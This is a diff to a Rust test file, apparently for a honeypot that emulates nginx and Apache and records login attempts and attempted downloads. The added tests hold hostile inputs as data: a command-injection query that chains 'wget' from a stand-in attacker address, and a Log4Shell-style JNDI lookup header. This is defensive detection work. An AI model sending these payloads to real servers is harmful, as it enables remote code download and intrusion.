@@ -20,6 +20,28 @@ fn the_login_page_takes_credentials_and_lets_in_what_the_policy_says() {
 }
 
 #[test]
+fn logins_to_what_there_is_not_are_recorded_as_refused() {
+    let form = "application/x-www-form-urlencoded";
+    for (path, kind, body) in [
+        ("/wp-login.php", form, "log=admin&pwd=x&wp-submit=Log+In"),
+        ("/phpmyadmin/index.php", form, "pma_username=admin&pma_password=x&server=1"),
+        (
+            "/xmlrpc.php",
+            "text/xml",
+            "<methodCall><methodName>wp.getUsersBlogs</methodName><value>admin</value><value>x</value></methodCall>",
+        ),
+    ] {
+        let outcome = ask("http", NGINX, post(path, kind, body));
+        assert_eq!(answers(&outcome)[0].0, 404, "{path}");
+        let login = &outcome.the_event("login").fields;
+        assert_eq!(
+            (&login["username"], &login["password"], &login["success"]),
+            (&"admin".into(), &"x".into(), &false.into())
+        );
+    }
+}
+
+#[test]
 fn basic_credentials_are_recorded_wherever_they_come() {
     let request = |path| format!("GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46eA==\r\n\r\n");
     for (path, status) in [("/admin/", 401), ("/manager/html", 404), ("/ws/v1/cluster", 200)] {
@@ -115,6 +137,10 @@ fn what_injected_commands_would_fetch_is_recorded_and_the_request_whole() {
             assert_eq!(outcome.the_event("request").fields["status"], status, "{request}");
         }
     }
+    // Blanks in a path make it no request to Apache; what it names is recorded all the same.
+    let broken = ask("http", APACHE, "GET /board.cgi?cmd=cd /tmp;wget http://192.0.2.9/x HTTP/1.1\r\nHost: x\r\n\r\n");
+    assert_eq!(answers(&broken)[0].0, 400);
+    assert_eq!(broken.the_event("download").fields["url"], "http://192.0.2.9/x");
     let lookup = ask("http", "", "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://192.0.2.9:1389/a}\r\n\r\n");
     assert_eq!(lookup.the_event("download").fields["tool"], "jndi");
     assert!(ask("http", "", "GET /?see=http://192.0.2.9/ HTTP/1.1\r\nHost: x\r\n\r\n").downloads.is_empty());
